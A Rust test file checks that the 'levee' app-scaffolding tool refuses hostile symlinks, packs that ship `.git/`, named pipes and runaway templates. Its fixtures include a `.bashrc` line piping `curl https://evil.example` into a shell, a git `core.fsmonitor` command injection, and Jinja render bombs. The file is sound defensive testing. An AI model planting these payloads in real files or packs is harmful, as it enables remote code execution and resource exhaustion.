//! Hostile app trees and packs: a symlinked directory (or file) inside an app never makes levee
//! write, rewrite, delete or read anything outside the app, and is refused by name; in a fleet
//! the other apps go on. A pack that ships `.git/` (or a named pipe) is refused.

mod common;

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use common::{TestContext, run, tree, write};

/// `levee new` with the built-in pack into `<dir>/<name>`.
fn scaffold(cx: &TestContext, dir: &Path, name: &str) -> PathBuf {
    common::new_app(cx, dir, name.as_ref(), name, "form", None)
}

/// An outside directory with one file the attacker would like rewritten or removed.
fn outside(dir: &Path) -> PathBuf {
    let out = dir.join("outside");
    write(&out, "victim.txt", b"do not touch\n");
    write(&out, "levee.rego", b"package stale\n");
    out
}

#[test]
fn sync_promote_and_deploy_refuse_a_symlinked_directory_and_touch_nothing_outside() {
    let tmp = TestContext::new();
    for dir in ["policy", "deploy", ".github"] {
        let case = tmp
            .path()
            .join(format!("case-{}", dir.trim_start_matches('.')));
        std::fs::create_dir_all(&case).expect("mkdir");
        let app = scaffold(&tmp, &case, "sym-app");
        let out = outside(&case);
        // The directory levee manages is moved out and replaced by a link to it, plus an
        // unrelated victim file: levee would rewrite the first and could delete the second.
        std::fs::remove_dir_all(app.join(dir)).expect("rm");
        symlink(&out, app.join(dir)).expect("symlink");
        let before = tree(&out);
        // A change in app.yaml makes every managed file stale.
        let yaml = std::fs::read_to_string(app.join("app.yaml")).expect("app.yaml");
        std::fs::write(
            app.join("app.yaml"),
            yaml.replace("team: shop-team", "team: ops-team"),
        )
        .expect("write");
        for args in [
            &["sync", "sym-app"][..],
            &["sync", "--force", "sym-app"],
            &["sync", "--check", "sym-app"],
            &["promote", "sym-app", "--tier", "sandbox"],
            &["deploy", "sym-app"],
        ] {
            let o = run(tmp.levee_in(&case).args(args));
            let named = format!("`{dir}` is a symbolic link");
            if dir != "deploy" && args[0] == "deploy" {
                // deploy writes only deploy/: the link elsewhere is none of its business.
                assert_eq!(o.code, 0, "{dir} {args:?}: {}", o.stderr);
                assert_eq!(tree(&out), before, "{dir} {args:?} touched the outside");
                continue;
            }
            assert_eq!(o.code, 2, "{dir} {args:?}: {}{}", o.stdout, o.stderr);
            assert!(
                o.stderr.contains(&named) || o.stdout.contains(&named),
                "{dir} {args:?}: {}{}",
                o.stdout,
                o.stderr
            );
            assert_eq!(tree(&out), before, "{dir} {args:?} touched the outside");
        }
    }
}

/// A git pack with v1.0.0 and v1.1.0; v1.1.0 adds `cfg/.bashrc` (an app-controlled
/// `template.source` could point at such a pack) and edits `docs/guide.md`.
fn git_pack(dir: &Path) -> PathBuf {
    two_releases(
        &dir.join("pack"),
        "hostile",
        &[
            ("README.md", b"readme v1\n"),
            ("docs/guide.md", b"guide v1\n"),
            ("cfg/settings.txt", b"settings v1\n"),
        ],
        &[
            ("README.md", b"readme v2\n"),
            ("docs/guide.md", b"guide v2\n"),
            ("cfg/settings.txt", b"settings v2\n"),
            ("cfg/.bashrc", b"curl https://evil.example | sh\n"),
        ],
    )
}

/// A git pack `name` at `pack` whose one template, `svc-node` (a node dashboard), holds `v1` at
/// v1.0.0, and `v2` written over it at v1.1.0.
fn two_releases(pack: &Path, name: &str, v1: &[(&str, &[u8])], v2: &[(&str, &[u8])]) -> PathBuf {
    let meta = |version: &str| format!("name: {name}\nversion: {version}\n");
    write(pack, "pack.yaml", meta("1.0.0").as_bytes());
    write(
        pack,
        "svc-node/template.yaml",
        format!("kind: dashboard\nstack: node\ndescription: {name}\n").as_bytes(),
    );
    let files = |set: &[(&str, &[u8])]| {
        for (rel, bytes) in set {
            write(pack, &format!("svc-node/files/{rel}"), bytes);
        }
    };
    files(v1);
    common::git(pack, &["init", "-q"]);
    common::release(pack, "v1.0.0");
    write(pack, "pack.yaml", meta("1.1.0").as_bytes());
    files(v2);
    common::release(pack, "v1.1.0");
    pack.to_path_buf()
}

fn scaffold_from(cx: &TestContext, dir: &Path, pack: &Path, name: &str) -> PathBuf {
    common::new_app(cx, dir, name.as_ref(), name, "dashboard", Some(pack))
}

#[test]
fn a_fleet_upgrade_refuses_each_symlinked_app_by_name_and_upgrades_the_rest() {
    let tmp = TestContext::new();
    let pack = git_pack(tmp.path());
    let fleet = tmp.path().join("fleet");
    std::fs::create_dir_all(&fleet).expect("mkdir");
    let home = tmp.path().join("home");
    write(&home, ".bashrc", b"# the user's own\n");
    write(&home, "settings.txt", b"settings v1\n");
    let secret = tmp.path().join("secret.txt");
    std::fs::write(&secret, "s3cr3t\n").expect("write");

    // a-dir: cfg/ links to a home directory; b-file: README.md links to a secret outside;
    // c-docs: docs/ links inside the app (still refused: no symlink on the way); d-fine: clean.
    let a = scaffold_from(&tmp, &fleet, &pack, "a-dir");
    std::fs::remove_dir_all(a.join("cfg")).expect("rm");
    symlink(&home, a.join("cfg")).expect("symlink");
    let b = scaffold_from(&tmp, &fleet, &pack, "b-file");
    std::fs::remove_file(b.join("README.md")).expect("rm");
    symlink(&secret, b.join("README.md")).expect("symlink");
    let c = scaffold_from(&tmp, &fleet, &pack, "c-docs");
    std::fs::rename(c.join("docs"), c.join("real-docs")).expect("mv");
    symlink("real-docs", c.join("docs")).expect("symlink");
    let d = scaffold_from(&tmp, &fleet, &pack, "d-fine");
    let (home_before, secret_before) = (tree(&home), std::fs::read(&secret).expect("read"));
    let c_docs_before = tree(&c.join("real-docs"));

    let o = run(tmp
        .levee_in(tmp.path())
        .args(["upgrade", "fleet", "--format", "json"]));
    assert_eq!(o.code, 1, "{}{}", o.stdout, o.stderr);
    let report: serde_json::Value = serde_json::from_str(&o.stdout).expect("json");
    let result = |name: &str| {
        report["apps"]
            .as_array()
            .expect("apps")
            .iter()
            .find(|r| r["app"].as_str().is_some_and(|p| p.ends_with(name)))
            .unwrap_or_else(|| panic!("{name} in {}", o.stdout))
            .clone()
    };
    for (name, link) in [
        ("a-dir", "cfg"),
        ("b-file", "README.md"),
        ("c-docs", "docs"),
    ] {
        let r = result(name);
        assert_eq!(r["result"], "failed", "{name}: {r}");
        let err = r["error"].as_str().expect("error");
        assert!(
            err.contains(&format!("`{link}` is a symbolic link")),
            "{name}: {err}"
        );
    }
    assert_eq!(result("d-fine")["result"], "upgraded");
    assert_eq!(report["summary"]["failed"], 3);
    assert_eq!(report["summary"]["upgraded"], 1);
    // Nothing outside an app changed; the refused apps are as they were.
    assert_eq!(tree(&home), home_before);
    assert_eq!(std::fs::read(&secret).expect("read"), secret_before);
    assert!(!o.stdout.contains("s3cr3t"));
    assert_eq!(tree(&c.join("real-docs")), c_docs_before);
    for app in [&a, &b, &c] {
        let record = std::fs::read_to_string(app.join(".levee/render.json")).expect("record");
        assert!(
            record.contains("\"version\": \"1.0.0\""),
            "{}",
            app.display()
        );
    }
    assert_eq!(
        std::fs::read_to_string(d.join("cfg/.bashrc")).expect("d upgraded"),
        "curl https://evil.example | sh\n"
    );
    // No staging directory left in the fleet.
    assert_eq!(
        common::names(&fleet),
        ["a-dir", "b-file", "c-docs", "d-fine"]
    );
}

/// A symbolic link at a path both template versions render alike: the upgrade never reads that
/// file (its three-way merge keeps whatever the app holds there), so it neither follows nor
/// replaces the link, and nothing of its target reaches the report or the record. A link on a
/// path the upgrade writes is refused (above).
#[test]
fn a_symlink_where_the_template_did_not_change_is_left_alone_and_not_followed() {
    let tmp = TestContext::new();
    let pack = two_releases(
        &tmp.path().join("pack"),
        "steady",
        &[
            ("README.md", b"readme v1\n"),
            ("notes/keep.md", b"the same in both versions\n"),
        ],
        &[("README.md", b"readme v2\n")],
    );

    let secret = tmp.path().join("secret.txt");
    std::fs::write(&secret, "s3cr3t\n").expect("write");
    let app = scaffold_from(&tmp, tmp.path(), &pack, "linked");
    std::fs::remove_file(app.join("notes/keep.md")).expect("rm");
    symlink(&secret, app.join("notes/keep.md")).expect("symlink");

    let o = run(tmp
        .levee_in(&app)
        .args(["upgrade", "--no-input", "--format", "json"]));
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    assert!(!o.stdout.contains("s3cr3t") && !o.stderr.contains("s3cr3t"));
    let link = app.join("notes/keep.md");
    assert!(
        std::fs::symlink_metadata(&link)
            .expect("still there")
            .file_type()
            .is_symlink(),
        "the link was replaced"
    );
    assert_eq!(std::fs::read_link(&link).expect("link"), secret);
    assert_eq!(std::fs::read_to_string(&secret).expect("read"), "s3cr3t\n");
    assert_eq!(
        std::fs::read_to_string(app.join("README.md")).expect("readme"),
        "readme v2\n"
    );
    let record = std::fs::read_to_string(app.join(".levee/render.json")).expect("record");
    assert!(record.contains("\"version\": \"1.1.0\""), "{record}");
    assert!(!record.contains("s3cr3t"));
}

/// A directory pack with `.git/` inside a template's files: `levee new` would copy it into the
/// app, and the README's next step (`git init && git add . && git commit`) would run its
/// `core.fsmonitor`.
#[test]
fn a_pack_that_ships_git_is_refused_in_any_case() {
    let tmp = TestContext::new();
    for git_dir in [".git", ".GIT", ".Git", "git~1"] {
        let pack = tmp
            .path()
            .join(format!("pack{}", git_dir.replace(['.', '~'], "_")));
        write(&pack, "pack.yaml", b"name: evil\nversion: 1.0.0\n");
        write(
            &pack,
            "form-node/template.yaml",
            b"kind: form\nstack: node\ndescription: evil\n",
        );
        write(&pack, "form-node/files/README.md", b"hi\n");
        write(
            &pack,
            &format!("form-node/files/{git_dir}/config"),
            b"[core]\n\tfsmonitor = touch /tmp/levee-pwned\n",
        );
        write(
            &pack,
            &format!("form-node/files/{git_dir}/hooks/post-commit"),
            b"#!/bin/sh\n",
        );
        let o = run(tmp
            .levee_in(tmp.path())
            .args(["new", "app", "--no-input", "--name", "evil-app"])
            .args([
                "--owner",
                "jane.doe@acme.corp",
                "--kind",
                "form",
                "--stack",
                "node",
            ])
            .args(["--classification", "internal", "--templates"])
            .arg(&pack));
        assert_eq!(o.code, 2, "{git_dir}: {}{}", o.stdout, o.stderr);
        assert!(
            o.stderr.contains(&format!("form-node/files/{git_dir}"))
                && o.stderr.contains("levee refuses `.git` in a pack"),
            "{git_dir}: {}",
            o.stderr
        );
        assert!(!tmp.path().join("app").exists(), "{git_dir}");
    }
}

#[test]
fn a_named_pipe_in_a_pack_is_refused_without_hanging() {
    let tmp = TestContext::new();
    let pack = tmp.path().join("pack");
    write(&pack, "pack.yaml", b"name: fifo\nversion: 1.0.0\n");
    write(
        &pack,
        "form-node/template.yaml",
        b"kind: form\nstack: node\ndescription: fifo\n",
    );
    write(&pack, "form-node/files/README.md", b"hi\n");
    let fifo = pack.join("form-node/files/pipe.txt");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    let o = run(tmp
        .levee_in(tmp.path())
        .args(["new", "app", "--no-input", "--name", "fifo-app"])
        .args([
            "--owner",
            "jane.doe@acme.corp",
            "--kind",
            "form",
            "--stack",
            "node",
        ])
        .args(["--classification", "internal", "--templates"])
        .arg(&pack));
    assert_eq!(o.code, 2, "{}{}", o.stdout, o.stderr);
    assert!(
        o.stderr.contains("a named pipe (FIFO)") && o.stderr.contains("pipe.txt"),
        "{}",
        o.stderr
    );
}

/// A template that would loop for hours or render gigabytes stops at its budget, with an error
/// naming it, and `levee new` writes nothing.
#[test]
fn a_runaway_template_stops_with_an_error_naming_it() {
    let tmp = TestContext::new();
    for (file, text, why) in [
        (
            "loops.txt.jinja",
            "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
            "takes too much work",
        ),
        (
            "grow.txt.jinja",
            "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
            "takes too much work",
        ),
        (
            "big.txt.jinja",
            "{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}",
            "renders more than 16777216 bytes",
        ),
    ] {
        let pack = tmp.path().join(format!("pack-{file}"));
        write(&pack, "pack.yaml", b"name: runaway\nversion: 1.0.0\n");
        write(
            &pack,
            "form-node/template.yaml",
            b"kind: form\nstack: node\ndescription: runaway\n",
        );
        write(&pack, &format!("form-node/files/{file}"), text.as_bytes());
        let started = std::time::Instant::now();
        let o = run(tmp
            .levee_in(tmp.path())
            .args(["new", "app", "--no-input", "--name", "loop-app"])
            .args([
                "--owner",
                "jane.doe@acme.corp",
                "--kind",
                "form",
                "--stack",
                "node",
            ])
            .args(["--classification", "internal", "--templates"])
            .arg(&pack));
        assert!(
            started.elapsed() < std::time::Duration::from_secs(30),
            "{file}"
        );
        assert_eq!(o.code, 2, "{file}: {}{}", o.stdout, o.stderr);
        assert!(
            o.stderr.contains(&format!("cannot render `{file}`")) && o.stderr.contains(why),
            "{file}: {}",
            o.stderr
        );
        assert_eq!(
            common::names(tmp.path())
                .iter()
                .filter(|n| *n == "app")
                .count(),
            0
        );
    }
}
